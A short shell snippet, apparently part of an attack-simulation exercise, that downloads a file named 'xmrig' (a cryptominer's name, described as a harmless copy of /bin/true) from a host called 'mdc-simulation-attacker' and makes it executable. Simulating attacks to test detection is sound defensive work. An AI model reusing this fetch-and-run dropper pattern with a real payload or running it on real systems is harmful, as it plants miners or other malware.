# Download xmrig (a harmless copy of /bin/true) from the attacker's web server and make it executable.
dir=$(pwd); [ -w "$dir" ] || dir=/tmp
curl -sSf -m 20 -o "$dir/xmrig" http://mdc-simulation-attacker/xmrig || exit $?
chmod +x "$dir/xmrig" && echo "downloaded xmrig to $dir/xmrig ($(wc -c < "$dir/xmrig") bytes)"
